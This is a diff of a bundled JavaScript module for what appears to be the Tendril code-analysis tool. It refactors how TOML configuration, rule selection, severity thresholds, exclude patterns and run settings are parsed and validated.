+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SEVERITY_THRESHOLDS = exports.parseThreshold = exports.parseSize = exports.parseShard = exports.parseScope = exports.parseLimit = exports.parseJobs = exports.parseBand = exports.compilePatterns = void 0;
+exports.readConfigFile = readConfigFile;
+exports.resolveProfile = resolveProfile;
+exports.resolveRunSettings = resolveRunSettings;
+exports.resolveSettings = resolveSettings;
+exports.profileOf = profileOf;
+const fs = __importStar(__nccwpck_require__(9896));
+const path = __importStar(__nccwpck_require__(6928));
+const smol_toml_1 = __nccwpck_require__(7106);
+const errors_1 = __nccwpck_require__(3916);
+const rules_1 = __nccwpck_require__(5755);
+const discover_1 = __nccwpck_require__(4883);
+const severity_1 = __nccwpck_require__(2640);
+const options_1 = __nccwpck_require__(8031);
+var values_1 = __nccwpck_require__(535);
+Object.defineProperty(exports, "compilePatterns", ({ enumerable: true, get: function () { return values_1.compilePatterns; } }));
+Object.defineProperty(exports, "parseBand", ({ enumerable: true, get: function () { return values_1.parseBand; } }));
+Object.defineProperty(exports, "parseJobs", ({ enumerable: true, get: function () { return values_1.parseJobs; } }));
+Object.defineProperty(exports, "parseLimit", ({ enumerable: true, get: function () { return values_1.parseLimit; } }));
+Object.defineProperty(exports, "parseScope", ({ enumerable: true, get: function () { return values_1.parseScope; } }));
+Object.defineProperty(exports, "parseShard", ({ enumerable: true, get: function () { return values_1.parseShard; } }));
+Object.defineProperty(exports, "parseSize", ({ enumerable: true, get: function () { return values_1.parseSize; } }));
+Object.defineProperty(exports, "parseThreshold", ({ enumerable: true, get: function () { return values_1.parseThreshold; } }));
+Object.defineProperty(exports, "SEVERITY_THRESHOLDS", ({ enumerable: true, get: function () { return values_1.SEVERITY_THRESHOLDS; } }));
+/**
+ * Reads a configuration file: `pyproject.toml` (the `[tool.tendril]` table) or a Tendril TOML file
+ * (top level). Each key is an option of src/settings/options.ts; unknown keys and wrong types are
+ * errors naming the file and the key.
+ */
+function readConfigFile(file) {
+    let text;
+    try {
+        text = fs.readFileSync(file, 'utf8');
+    }
+    catch (error) {
+        throw new errors_1.UsageError(`cannot read configuration file ${file} (${error.code ?? 'error'})`);
+    }
+    let doc;
+    try {
+        doc = (0, smol_toml_1.parse)(text);
+    }
+    catch (error) {
+        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
+        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
+    }
+    let table = doc;
+    let prefix = '';
+    if (path.basename(file) === 'pyproject.toml') {
+        const tool = doc.tool;
+        table = tool?.tendril ?? {};
+        prefix = 'tool.tendril.';
+    }
+    const dir = path.dirname(path.resolve(file));
+    const input = {};
+    for (const [key, value] of Object.entries(table)) {
+        const option = options_1.TOML_OPTIONS.find((o) => o.name === key);
+        if (!option) {
+            throw new errors_1.UsageError(`${file}: unknown key '${prefix}${key}'; accepted keys: ${options_1.TOML_OPTIONS.map((o) => o.name).join(', ')}`);
+        }
+        const site = {
+            file,
+            key: `${prefix}${key}`,
+            dir,
+            wrongType: () => {
+                throw new errors_1.UsageError(`${file}: ${prefix}${key} must be ${option.toml.expected}, not ${JSON.stringify(value)}`);
+            },
+        };
+        input[option.field] = option.type.toml(value, site);
+    }
+    return input;
+}
+/** Later inputs override earlier ones, key by key. */
+function merge(inputs) {
+    const merged = {};
+    for (const input of inputs) {
+        for (const [key, value] of Object.entries(input))
+            if (value !== undefined)
+                merged[key] = value;
+    }
+    return merged;
+}
+/** The rules that run: select (default: every rule enabled by default), less ignore and skips, less security rules below the band. */
+function chooseRules(merged) {
+    let rules = merged.select
+        ? (0, rules_1.selectRules)(merged.select, 'rule in select')
+        : rules_1.ALL_RULES.filter((rule) => rule.meta.enabledByDefault !== false);
+    if (merged.ignore || merged.skips) {
+        const ignored = new Set([
+            ...(0, rules_1.selectRules)(merged.ignore ?? [], 'rule in ignore'),
+            ...(0, rules_1.selectRules)(merged.skips ?? [], 'rule in skips'),
+        ]);
+        rules = rules.filter((rule) => !ignored.has(rule));
+    }
+    const minBand = merged.minSecuritySeverity;
+    if (minBand) {
+        const min = severity_1.BANDS.find((b) => b.name === minBand).min;
+        rules = rules.filter((rule) => rule.meta.kind !== 'security' || (rule.meta.securitySeverity ?? 0) >= min);
+    }
+    return rules;
+}
+/** The per-directory part: what the options of scope `profile` give (later inputs win). */
+function resolveProfile(root, inputs) {
+    const merged = merge(inputs);
+    // extend-exclude adds to the exclude of the same or any earlier input.
+    let exclude = (0, discover_1.defaultExcludes)(root);
+    for (const input of inputs) {
+        if (input.exclude)
+            exclude = [...input.exclude];
+        if (input.extendExclude)
+            exclude = [...exclude, ...input.extendExclude];
+    }
+    return {
+        rules: chooseRules(merged),
+        ruleOptions: merged.ruleOptions ?? {},
+        exclude,
+        perFileIgnores: (merged.perFileIgnores ?? []).map(({ pattern, selectors }) => ({
+            pattern,
+            ruleIds: new Set((0, rules_1.selectRules)(selectors).map((rule) => rule.meta.id)),
+        })),
+        includeSuppressed: merged.includeSuppressed ?? options_1.OPTIONS['include-suppressed'].default,
+    };
+}
+/** The run-wide part: what the options of scope `run` give (later inputs win), with the built-in defaults. */
+function resolveRunSettings(base, inputs) {
+    const merged = merge(inputs);
+    return {
+        ...base,
+        maxFileSize: merged.maxFileSize ?? options_1.OPTIONS['max-file-size'].default,
+        fileTimeout: merged.fileTimeout ?? options_1.OPTIONS['file-timeout'].default,
+        cacheDir: merged.cacheDir === false ? undefined : (merged.cacheDir ?? path.join(base.root, options_1.OPTIONS['cache-dir'].default)),
+        failOnSecuritySeverity: (merged.failOnSecuritySeverity ?? options_1.OPTIONS['fail-on-security-severity'].default),
+        maxMaintainabilityFindings: merged.maxMaintainabilityFindings ?? options_1.OPTIONS['max-maintainability-findings'].default,
+        baselineRef: merged.baselineRef,
+        baselineSarif: merged.baselineSarif,
+        maxNewMaintainabilityFindings: merged.maxNewMaintainabilityFindings ?? options_1.OPTIONS['max-new-maintainability-findings'].default,
+        scope: merged.scope ?? options_1.OPTIONS.scope.default,
+        shard: merged.shard,
+    };
+}
+/** The run's settings and its own profile, from defaults and `inputs` (a configuration file, then flags or inputs). */
+function resolveSettings(base, ...inputs) {
+    return { ...resolveRunSettings(base, inputs), ...resolveProfile(base.root, inputs) };
+}
+/** The profile part of settings (profile 0 of a run). */
+function profileOf(settings) {
+    const { configFile, rules, ruleOptions, exclude, perFileIgnores, includeSuppressed } = settings;
+    return { configFile, rules, ruleOptions, exclude, perFileIgnores, includeSuppressed };
+}
+
+
+/***/ }),
+
+/***/ 535:
+/***/ (function(__unused_webpack_module, exports, __nccwpck_require__) {
+
+
+var __createBinding = (this && this.__createBinding) || (Object.create ? (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    var desc = Object.getOwnPropertyDescriptor(m, k);
+    if (!desc || ("get" in desc ? !m.__esModule : desc.writable || desc.configurable)) {
+      desc = { enumerable: true, get: function() { return m[k]; } };
+    }
+    Object.defineProperty(o, k2, desc);
+}) : (function(o, m, k, k2) {
+    if (k2 === undefined) k2 = k;
+    o[k2] = m[k];
+}));
+var __setModuleDefault = (this && this.__setModuleDefault) || (Object.create ? (function(o, v) {
+    Object.defineProperty(o, "default", { enumerable: true, value: v });
+}) : function(o, v) {
+    o["default"] = v;
+});
+var __importStar = (this && this.__importStar) || (function () {
+    var ownKeys = function(o) {
+        ownKeys = Object.getOwnPropertyNames || function (o) {
+            var ar = [];
+            for (var k in o) if (Object.prototype.hasOwnProperty.call(o, k)) ar[ar.length] = k;
+            return ar;
+        };
+        return ownKeys(o);
+    };
+    return function (mod) {
+        if (mod && mod.__esModule) return mod;
+        var result = {};
+        if (mod != null) for (var k = ownKeys(mod), i = 0; i < k.length; i++) if (k[i] !== "default") __createBinding(result, mod, k[i]);
+        __setModuleDefault(result, mod);
+        return result;
+    };
+})();
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.SEVERITY_THRESHOLDS = void 0;
 exports.parseThreshold = parseThreshold;
 exports.parseLimit = parseLimit;
 exports.parseShard = parseShard;
 exports.parseScope = parseScope;
 exports.parseSize = parseSize;
 exports.parseJobs = parseJobs;
-exports.readConfigFile = readConfigFile;
 exports.parseBand = parseBand;
+exports.parseChoice = parseChoice;
+exports.parseList = parseList;
+exports.existingPath = existingPath;
 exports.compilePatterns = compilePatterns;
-exports.resolveSettings = resolveSettings;
+exports.isStringList = isStringList;
+exports.checkSelectors = checkSelectors;
+exports.tomlSelectors = tomlSelectors;
+exports.tomlInteger = tomlInteger;
+exports.tomlText = tomlText;
+exports.tomlBoolean = tomlBoolean;
+exports.tomlPatterns = tomlPatterns;
+exports.tomlPerFileIgnores = tomlPerFileIgnores;
+exports.tomlCacheDir = tomlCacheDir;
+exports.tomlRuleOptions = tomlRuleOptions;
 const fs = __importStar(__nccwpck_require__(9896));
 const path = __importStar(__nccwpck_require__(6928));
-const smol_toml_1 = __nccwpck_require__(7106);
 const errors_1 = __nccwpck_require__(3916);
 const rules_1 = __nccwpck_require__(5755);
-const glob_1 = __nccwpck_require__(2218);
-const analyze_1 = __nccwpck_require__(138);
-const discover_1 = __nccwpck_require__(4935);
+const glob_1 = __nccwpck_require__(3854);
 const severity_1 = __nccwpck_require__(2640);
+/**
+ * The value types of the options (src/settings/options.ts): readers of text (a flag or an action
+ * input, named by `source` in errors) and of TOML values (named by file and key).
+ */
 exports.SEVERITY_THRESHOLDS = [...severity_1.BANDS.map((b) => b.name), 'none'];
-exports.DEFAULTS = {
-    failOnSecuritySeverity: 'high',
-    maxMaintainabilityFindings: -1,
-    maxFileSize: analyze_1.DEFAULT_BUDGET.maxFileSize,
-    fileTimeout: analyze_1.DEFAULT_BUDGET.timeoutSeconds,
-    cacheDir: '.tendril_cache',
-};
 function parseThreshold(value, source) {
     const v = value.trim().toLowerCase();
     if (exports.SEVERITY_THRESHOLDS.includes(v))
@@ -12145,22 +14116,95 @@ function parseJobs(value, source) {
         return Number(v);
     throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: a whole number >= 1`);
 }
-const CONFIG_KEYS = {
-    select: 'a list of rule ids, aliases or kinds',
-    ignore: 'a list of rule ids, aliases or kinds',
-    'fail-on-security-severity': `one of ${exports.SEVERITY_THRESHOLDS.join(', ')}`,
-    'max-maintainability-findings': 'a whole number >= 0, or -1',
-    skips: 'a list of rule ids, aliases (B101) or kinds, left out like ignore',
-    'min-security-severity': `one of ${severity_1.BANDS.map((b) => b.name).join(', ')}`,
-    exclude: 'a list of gitignore-style patterns',
-    'extend-exclude': 'a list of gitignore-style patterns',
-    'per-file-ignores': 'a table of glob = [rule ids, aliases or kinds]',
-    'include-suppressed': 'true or false',
-    'max-file-size': 'a whole number of bytes >= 1',
-    'file-timeout': 'a whole number of seconds >= 1',
-    'cache-dir': 'a directory (relative to the configuration file), or false for no cache',
-    rules: 'a table of rule options: [tool.tendril.rules.<rule-id>]',
-};
+function parseBand(value, source) {
+    const v = value.trim().toLowerCase();
+    const band = severity_1.BANDS.find((b) => b.name === v);
+    if (band)
+        return band.name;
+    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: ${severity_1.BANDS.map((b) => b.name).join(', ')}`);
+}
+/** One of `accepted`, spelled exactly (`--format`). */
+function parseChoice(accepted) {
+    return (value, source) => {
+        if (accepted.includes(value))
+            return value;
+        throw new errors_1.UsageError(`${source}: '${value}' is not valid; accepted: ${accepted.join(', ')}`);
+    };
+}
+/** A comma-separated list (flags): items trimmed, empty ones dropped. */
+function parseList(value) {
+    return value.split(',').map((s) => s.trim()).filter(Boolean);
+}
+/** A path that must exist, relative to `base`; the text is kept as given. */
+function existingPath(value, source, base) {
+    if (!value || !fs.existsSync(path.resolve(base, value)))
+        throw new errors_1.UsageError(`${source}: ${value} does not exist`);
+    return value;
+}
+/** Patterns relative to `base` (the configuration file's directory, or the current directory for flags). */
+function compilePatterns(globs, base) {
+    return globs.map((g) => (0, glob_1.compilePattern)(g, base)).filter((p) => p !== undefined);
+}
+function isStringList(value) {
+    return Array.isArray(value) && value.every((v) => typeof v === 'string');
+}
+function isTable(value) {
+    return typeof value === 'object' && value !== null && !Array.isArray(value);
+}
+/** Unknown rule selectors in a configuration file: an error naming the file and the key. */
+function checkSelectors(file, selectors, key) {
+    try {
+        (0, rules_1.selectRules)(selectors, `rule in ${key}`);
+    }
+    catch (error) {
+        throw new errors_1.UsageError(`${file}: ${error.message}`);
+    }
+}
+/** A list of rule ids, aliases or kinds, each known. */
+function tomlSelectors(value, site) {
+    if (!isStringList(value))
+        site.wrongType();
+    checkSelectors(site.file, value, site.key);
+    return value;
+}
+function tomlInteger(min) {
+    return (value, site) => (typeof value === 'number' && Number.isInteger(value) && value >= min ? value : site.wrongType());
+}
+/** A string read with a text parser, whose errors name the file and the key. */
+function tomlText(parse) {
+    return (value, site) => (typeof value === 'string' ? parse(value, `${site.file}: ${site.key}`) : site.wrongType());
+}
+function tomlBoolean(value, site) {
+    return typeof value === 'boolean' ? value : site.wrongType();
+}
+function tomlPatterns(value, site) {
+    return isStringList(value) ? compilePatterns(value, site.dir) : site.wrongType();
+}
+/** `[per-file-ignores]`: glob = [rule ids, aliases or kinds]. */
+function tomlPerFileIgnores(value, site) {
+    if (!isTable(value))
+        site.wrongType();
+    const out = [];
+    for (const [glob, selectors] of Object.entries(value)) {
+        const key = `${site.key}."${glob}"`;
+        if (!isStringList(selectors)) {
+            throw new errors_1.UsageError(`${site.file}: ${key} must be a list of rule ids, aliases or kinds, not ${JSON.stringify(selectors)}`);
+        }
+        checkSelectors(site.file, selectors, key);
+        const pattern = (0, glob_1.compilePattern)(glob, site.dir);
+        if (pattern)
+            out.push({ pattern, selectors });
+    }
+    return out;
+}
+/** A directory relative to the configuration file, or false. */
+function tomlCacheDir(value, site) {
+    if (value === false)
+        return false;
+    if (typeof value === 'string' && value.trim() !== '')
+        return path.resolve(site.dir, value);
+    return site.wrongType();
+}
 function describeSpec(spec) {
     switch (spec.type) {
         case 'integer':
@@ -12182,226 +14226,37 @@ function validOption(spec, value) {
         case 'string':
             return typeof value === 'string' && (!spec.values || spec.values.includes(value));
         case 'string-list':
-            return Array.isArray(value) && value.every((v) => typeof v === 'string');
+            return isStringList(value);
     }
 }
-/** `[tool.tendril.rules.<rule-id>]` tables: known rules, known options, right types. */
-function readRuleOptions(file, prefix, value) {
-    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
-        throw new errors_1.UsageError(`${file}: ${prefix}rules must be ${CONFIG_KEYS.rules}`);
-    }
+/** `[rules.<rule-id>]` tables: known rules, known options, right types. */
+function tomlRuleOptions(value, site, expected) {
+    const { file, key } = site;
+    if (!isTable(value))
+        throw new errors_1.UsageError(`${file}: ${key} must be ${expected}`);
     const out = {};
     for (const [ruleId, table] of Object.entries(value)) {
         const rule = rules_1.ALL_RULES.find((r) => r.meta.id === ruleId);
         if (!rule)
-            throw new errors_1.UsageError(`${file}: ${prefix}rules.${ruleId}: no rule has this id (see 'tendril rules')`);
+            throw new errors_1.UsageError(`${file}: ${key}.${ruleId}: no rule has this id (see 'tendril rules')`);
         const specs = rule.meta.options ?? {};
         const accepted = Object.keys(specs);
-        if (typeof table !== 'object' || table === null || Array.isArray(table)) {
-            throw new errors_1.UsageError(`${file}: ${prefix}rules.${ruleId} must be a table of options (${accepted.join(', ') || 'this rule has none'})`);
+        if (!isTable(table)) {
+            throw new errors_1.UsageError(`${file}: ${key}.${ruleId} must be a table of options (${accepted.join(', ') || 'this rule has none'})`);
         }
         out[ruleId] = {};
         for (const [name, optionValue] of Object.entries(table)) {
             const spec = specs[name];
             if (!spec) {
-                throw new errors_1.UsageError(`${file}: unknown key '${prefix}rules.${ruleId}.${name}'; ${accepted.length ? `accepted keys: ${accepted.join(', ')}` : 'this rule has no options'}`);
+                throw new errors_1.UsageError(`${file}: unknown key '${key}.${ruleId}.${name}'; ${accepted.length ? `accepted keys: ${accepted.join(', ')}` : 'this rule has no options'}`);
             }
             if (!validOption(spec, optionValue)) {
-                throw new errors_1.UsageError(`${file}: ${prefix}rules.${ruleId}.${name} must be ${describeSpec(spec)}, not ${JSON.stringify(optionValue)}`);
+                throw new errors_1.UsageError(`${file}: ${key}.${ruleId}.${name} must be ${describeSpec(spec)}, not ${JSON.stringify(optionValue)}`);
             }
             out[ruleId][name] = optionValue;
         }
     }
     return out;
-}
-/**
- * Reads a configuration file: `pyproject.toml` (the `[tool.tendril]` table) or a Tendril TOML file
- * (top level). Unknown keys and wrong types are errors naming the file and the key.
- */
-function readConfigFile(file) {
-    let text;
-    try {
-        text = fs.readFileSync(file, 'utf8');
-    }
-    catch (error) {
-        throw new errors_1.UsageError(`cannot read configuration file ${file} (${error.code ?? 'error'})`);
-    }
-    let doc;
-    try {
-        doc = (0, smol_toml_1.parse)(text);
-    }
-    catch (error) {
-        const first = (error instanceof Error ? error.message : String(error)).split('\n')[0];
-        throw new errors_1.UsageError(`${file} is not valid TOML: ${first}`);
-    }
-    let table = doc;
-    let prefix = '';
-    if (path.basename(file) === 'pyproject.toml') {
-        const tool = doc.tool;
-        table = tool?.tendril ?? {};
-        prefix = 'tool.tendril.';
-    }
-    const input = {};
-    for (const [key, value] of Object.entries(table)) {
-        const where = `${file}: ${prefix}${key}`;
-        const expected = CONFIG_KEYS[key];
-        if (!expected) {
-            throw new errors_1.UsageError(`${file}: unknown key '${prefix}${key}'; accepted keys: ${Object.keys(CONFIG_KEYS).join(', ')}`);
-        }
-        const wrongType = () => {
-            throw new errors_1.UsageError(`${where} must be ${expected}, not ${JSON.stringify(value)}`);
-        };
-        switch (key) {
-            case 'select':
-            case 'ignore':
-                if (!Array.isArray(value) || !value.every((v) => typeof v === 'string'))
-                    wrongType();
-                checkSelectors(file, value, `${prefix}${key}`);
-                input[key] = value;
-                break;
-            case 'fail-on-security-severity':
-                if (typeof value !== 'string')
-                    wrongType();
-                input.failOnSecuritySeverity = parseThreshold(value, where);
-                break;
-            case 'max-maintainability-findings':
-                if (typeof value !== 'number' || !Number.isInteger(value) || value < -1)
-                    wrongType();
-                input.maxMaintainabilityFindings = value;
-                break;
-            case 'rules':
-                input.ruleOptions = readRuleOptions(file, prefix, value);
-                break;
-            case 'skips':
-                if (!Array.isArray(value) || !value.every((v) => typeof v === 'string'))
-                    wrongType();
-                checkSelectors(file, value, `${prefix}skips`);
-                input.skips = value;
-                break;
-            case 'min-security-severity':
-                if (typeof value !== 'string')
-                    wrongType();
-                input.minSecuritySeverity = parseBand(value, where);
-                break;
-            case 'exclude':
-            case 'extend-exclude': {
-                if (!Array.isArray(value) || !value.every((v) => typeof v === 'string'))
-                    wrongType();
-                const patterns = compilePatterns(value, path.dirname(path.resolve(file)));
-                if (key === 'exclude')
-                    input.exclude = patterns;
-                else
-                    input.extendExclude = patterns;
-                break;
-            }
-            case 'per-file-ignores': {
-                if (typeof value !== 'object' || value === null || Array.isArray(value))
-                    wrongType();
-                input.perFileIgnores = [];
-                for (const [glob, selectors] of Object.entries(value)) {
-                    if (!Array.isArray(selectors) || !selectors.every((v) => typeof v === 'string')) {
-                        throw new errors_1.UsageError(`${file}: ${prefix}per-file-ignores."${glob}" must be a list of rule ids, aliases or kinds, not ${JSON.stringify(selectors)}`);
-                    }
-                    checkSelectors(file, selectors, `${prefix}per-file-ignores."${glob}"`);
-                    const pattern = (0, glob_1.compilePattern)(glob, path.dirname(path.resolve(file)));
-                    if (pattern)
-                        input.perFileIgnores.push({ pattern, selectors: selectors });
-                }
-                break;
-            }
-            case 'include-suppressed':
-                if (typeof value !== 'boolean')
-                    wrongType();
-                input.includeSuppressed = value;
-                break;
-            case 'max-file-size':
-            case 'file-timeout':
-                if (typeof value !== 'number' || !Number.isInteger(value) || value < 1)
-                    wrongType();
-                if (key === 'max-file-size')
-                    input.maxFileSize = value;
-                else
-                    input.fileTimeout = value;
-                break;
-            case 'cache-dir':
-                if (value === false)
-                    input.cacheDir = false;
-                else if (typeof value === 'string' && value.trim() !== '')
-                    input.cacheDir = path.resolve(path.dirname(path.resolve(file)), value);
-                else
-                    wrongType();
-                break;
-        }
-    }
-    return input;
-}
-/** Unknown rule selectors in a configuration file: an error naming the file and the key. */
-function checkSelectors(file, selectors, key) {
-    try {
-        (0, rules_1.selectRules)(selectors, `rule in ${key}`);
-    }
-    catch (error) {
-        throw new errors_1.UsageError(`${file}: ${error.message}`);
-    }
-}
-function parseBand(value, source) {
-    const v = value.trim().toLowerCase();
-    const band = severity_1.BANDS.find((b) => b.name === v);
-    if (band)
-        return band.name;
-    throw new errors_1.UsageError(`${source}: '${value}' is not a valid value; accepted: ${severity_1.BANDS.map((b) => b.name).join(', ')}`);
-}
-/** Patterns relative to `base` (the configuration file's directory, or the current directory for flags). */
-function compilePatterns(globs, base) {
-    return globs.map((g) => (0, glob_1.compilePattern)(g, base)).filter((p) => p !== undefined);
-}
-/** Later inputs override earlier ones, key by key. */
-function resolveSettings(base, ...inputs) {
-    const merged = {};
-    for (const input of inputs) {
-        for (const [key, value] of Object.entries(input))
-            if (value !== undefined)
-                merged[key] = value;
-    }
-    let rules = merged.select
-        ? (0, rules_1.selectRules)(merged.select, 'rule in select')
-        : rules_1.ALL_RULES.filter((rule) => rule.meta.enabledByDefault !== false);
-    if (merged.ignore || merged.skips) {
-        const ignored = new Set([
-            ...(0, rules_1.selectRules)(merged.ignore ?? [], 'rule in ignore'),
-            ...(0, rules_1.selectRules)(merged.skips ?? [], 'rule in skips'),
-        ]);
-        rules = rules.filter((rule) => !ignored.has(rule));
-    }
-    const minBand = merged.minSecuritySeverity;
-    if (minBand) {
-        const min = severity_1.BANDS.find((b) => b.name === minBand).min;
-        rules = rules.filter((rule) => rule.meta.kind !== 'security' || (rule.meta.securitySeverity ?? 0) >= min);
-    }
-    // extend-exclude adds to the exclude of the same or any earlier input.
-    let exclude = (0, discover_1.defaultExcludes)(base.root);
-    for (const input of inputs) {
-        if (input.exclude)
-            exclude = [...input.exclude];
-        if (input.extendExclude)
-            exclude = [...exclude, ...input.extendExclude];
-    }
-    return {
-        ...base,
-        rules,
-        exclude,
-        perFileIgnores: (merged.perFileIgnores ?? []).map(({ pattern, selectors }) => ({
-            pattern,
-            ruleIds: new Set((0, rules_1.selectRules)(selectors).map((rule) => rule.meta.id)),
-        })),
-        includeSuppressed: merged.includeSuppressed ?? false,
-        maxFileSize: merged.maxFileSize ?? exports.DEFAULTS.maxFileSize,
-        fileTimeout: merged.fileTimeout ?? exports.DEFAULTS.fileTimeout,
-        cacheDir: merged.cacheDir === false ? undefined : (merged.cacheDir ?? path.join(base.root, exports.DEFAULTS.cacheDir)),
-        failOnSecuritySeverity: merged.failOnSecuritySeverity ?? exports.DEFAULTS.failOnSecuritySeverity,
-        maxMaintainabilityFindings: merged.maxMaintainabilityFindings ?? exports.DEFAULTS.maxMaintainabilityFindings,
-        ruleOptions: merged.ruleOptions ?? {},
-    };
 }
 
 
